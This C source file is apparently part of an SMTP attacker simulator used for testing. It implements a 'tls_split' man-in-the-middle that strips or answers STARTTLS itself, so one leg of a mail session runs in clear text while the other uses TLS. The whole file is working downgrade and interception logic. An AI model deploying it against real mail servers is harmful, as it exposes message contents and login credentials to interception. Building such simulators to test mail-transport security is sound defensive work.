/*
 * mitm_split: tls_split, TLS on one side of the attacker only (mitm.h).
 *
 * "sender-tls" reuses the TLS the attacker terminates for swap_cert (the
 * session's swap points at the tls_split attack, so its certificate is
 * the one presented): the attacker answers the sender's STARTTLS with 220
 * itself and relays every command to the MX in clear on its own leg; it
 * never sends STARTTLS upstream (the MX's STARTTLS offer is removed from
 * the EHLO inside the attacker's TLS, as for swap_cert).  From port 465
 * the leg goes to the MX's 587 (mitm.c connect_up), in clear.
 *
 * "mx-tls" is the reverse.  When the MX's first EHLO reply offers
 * STARTTLS, the attacker keeps that reply from the sender, sends its own
 * STARTTLS to the MX, completes TLS as a client, repeats the sender's
 * EHLO inside it (the reply is the attacker's own, not relayed) and only
 * then gives the sender the held reply, STARTTLS removed.  The sender
 * speaks plaintext to the attacker from there on; the MX sees it all
 * inside TLS.  A STARTTLS the sender sends anyway gets a 502.  If the MX
 * refuses the attacker's STARTTLS, the dialogue stays plaintext both
 * ways; if the attacker's handshake fails, the attacker keeps the mail
 * (mitm.c up_tls_failed).
 *
 * Ownership: split_held and split_helo belong to the session and are
 * freed by mitm_split_clear().  Logs: each step is a '!' line of the
 * sender's session.
 */
#include "attacker/mitm_int.h"

#include <stdlib.h>
#include <string.h>

#include "core/util.h"

bool
mitm_own_leg(const struct msess *ms)
{
	return ms->term || ms->split_mx != NULL;
}

static bool
is_mx_tls(const struct mitm_attack *a)
{
	return a->mode != NULL && strcmp(a->mode, "mx-tls") == 0;
}

bool
mitm_split_starttls(struct msess *ms, const struct mitm_attack *a)
{
	struct mitm_pending p = { .verb = SMTP_V_STARTTLS };

	if (is_mx_tls(a)) {
		mitm_note(ms, "answered STARTTLS itself: not offered (tls_split "
		    "mx-tls keeps the sender in plaintext)");
		ms->s->starttls_reply = 502;
		p.local = xstrdup("502 5.5.1 Error: command not implemented");
		return mitm_push(ms, p) && mitm_flush_local(ms);
	}
	ms->s->starttls_reply = 220;
	mitm_note(ms, "answered STARTTLS with 220 itself; the MX never sees "
	    "it and gets the dialogue in clear text");
	return mitm_local_starttls_ok(ms);
}

int
mitm_split_ehlo(struct msess *ms, struct smtp_reply *r)
{
	if (ms->split_mx == NULL || ms->split_started || ms->up == NULL ||
	    mitm_tls_with_sender(ms) || !smtp_reply_has_capa(r, "STARTTLS"))
		return 0;
	ms->split_started = true;
	ms->split_holding = true;
	ms->split_held = *r;          /* ours now */
	smtp_reply_init(r);
	mitm_note(ms, "holds the EHLO reply and starts its own TLS towards the "
	    "MX (STARTTLS)");
	conn_write(ms->up, "STARTTLS\r\n", 10);
	if (!mitm_push(ms, (struct mitm_pending){ .verb = SMTP_V_STARTTLS,
	    .ours = true }))
		return -1;
	return 1;
}

void
mitm_split_helo(struct msess *ms, const char *line, size_t len)
{
	if (ms->split_mx == NULL || ms->split_started || mitm_tls_with_sender(ms))
		return;
	free(ms->split_helo);
	ms->split_helo = xstrndup(line, len);
}

bool
mitm_split_starttls_reply(struct msess *ms, int code)
{
	if (code == 220) {
		if (conn_starttls(ms->up, ms->m->up_tls, false, ms->m->host) == 0)
			return true;   /* the held reply waits for TLS_OK */
		mitm_note(ms, "cannot start its own TLS towards the MX");
	} else {
		mitm_note(ms, "the MX refused its STARTTLS (%d); the dialogue "
		    "stays in clear text both ways", code);
	}
	return mitm_split_release(ms);
}

bool
mitm_split_up_tls_ok(struct msess *ms)
{
	const char *helo = ms->split_helo ? ms->split_helo : "EHLO mxsim.attacker.test";

	mitm_note(ms, "its own TLS towards the MX is up (%s); repeats \"%s\" "
	    "inside it, the sender stays in clear text",
	    SSL_get_version(conn_ssl(ms->up)), helo);
	conn_write(ms->up, helo, strlen(helo));
	conn_write(ms->up, "\r\n", 2);
	return mitm_push(ms, (struct mitm_pending){ .verb = SMTP_V_EHLO,
	    .split_ehlo = true });
}

bool
mitm_split_release(struct msess *ms)
{
	struct mitm_pending p = { .verb = SMTP_V_EHLO };
	struct smtp_reply r;
	bool alive;

	if (!ms->split_holding)
		return mitm_flush_local(ms);
	ms->split_holding = false;
	r = ms->split_held;
	smtp_reply_init(&ms->split_held);
	alive = mitm_deliver_reply(ms, &p, &r, false);
	smtp_reply_clear(&r);
	return alive;
}

void
mitm_split_clear(struct msess *ms)
{
	smtp_reply_clear(&ms->split_held);
	ms->split_holding = false;
	free(ms->split_helo);
	ms->split_helo = NULL;
}
